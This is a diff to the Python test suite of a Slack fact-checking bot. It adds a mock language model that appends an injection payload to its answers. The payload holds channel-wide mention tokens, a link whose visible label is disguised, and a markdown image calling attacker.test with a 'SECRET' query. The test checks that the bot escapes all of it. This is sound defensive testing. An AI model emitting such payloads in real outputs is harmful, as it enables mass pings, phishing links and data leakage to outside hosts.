@@ -7,6 +7,7 @@ from __future__ import annotations
 import asyncio
 import dataclasses
 import html
+import json
 import re
 
 import httpx
@@ -15,6 +16,7 @@ import pytest
 from adapters.slack.escape import link_label
 from bot.cache import open_cache
 from bot.outcome import Outcome, USER_MESSAGES
+from tests.servers.openai_server import FactcheckModel, OpenAIServer, Reply, SeenRequest, answer
 from tests.servers.slack_api_server import SlackApiServer
 from tests.slack_harness import (
     article_html,
@@ -150,6 +152,47 @@ async def test_llm_failure_still_answers_with_the_offline_report(bot_settings, s
     shown = thread_text(slack_api, thread_ts=event["ts"])
     assert "language model failed" in shown.lower()
     assert "Sourcing:" in shown  # the offline analysis is still there
+
+
+class InjectingModel(FactcheckModel):
+    """A model whose answers carry the injection payloads (as a manipulated model's would)."""
+
+    def __call__(self, request: SeenRequest) -> Reply:
+        reply = super().__call__(request)
+        if reply.status != 200 or reply.content is None:
+            return reply
+        data = json.loads(reply.content)
+        for item in data.get("analyses", []):
+            item["context"] += f" {LLM_PAYLOAD}"
+            item["counter_evidence"].append(f"See https://attacker.test/?q=SECRET {LLM_PAYLOAD}")
+        if "summary" in data:
+            data["summary"][0] += f" {LLM_PAYLOAD}"
+        return answer(data)
+
+
+LLM_PAYLOAD = "<!channel> <@U123> <https://evil.test|https://bbc.co.uk> ![x](https://attacker.test/p.png?q=SECRET)"
+
+
+async def test_llm_report_progress_and_output_safety(bot_settings, slack_api, article_server):
+    """With a model: progress shows each claim's analysis, the report carries context,
+    counter-evidence, questions, summary and token footer, and model text comes out dead."""
+    url = article_server.add("/story", news_article())
+    with OpenAIServer(responder=InjectingModel(claims=4), latency_s=0.15) as llm:
+        configured = dataclasses.replace(bot_settings, openai_base_url=llm.base_url, openai_api_key="test",
+                                         model="test-model")
+        [event] = await post_links(configured, None, f"<{url}>")
+        assert len(llm.requests) >= 2
+    edits = [u["text"] for u in updates(slack_api)]
+    assert any("key claims" in text for text in edits[:-1]), edits  # progress before the report
+    shown = thread_text(slack_api, thread_ts=event["ts"])
+    for needle in ("*Context:*", "*Counter-evidence:*", "*Questions for the reporter:*", "*In short*",
+                   "What it rests on", "Engine: test-model", "tokens", "Sourcing overall"):
+        assert needle in shown, needle
+    assert "&lt;!channel&gt;" in shown  # the payload reached the output, escaped
+    for text in every_written_text(slack_api):
+        rest = re.sub(r"<%s\|[^<>]*>" % re.escape(url), "", text)
+        assert not LIVE.search(rest), text
+        assert "SECRET" not in text and "attacker.test" not in text
 
 
 INJECTED_TITLE = "Budget vote <!channel> <@U123> ![x](https://attacker.test/p.png?q=SECRET)"
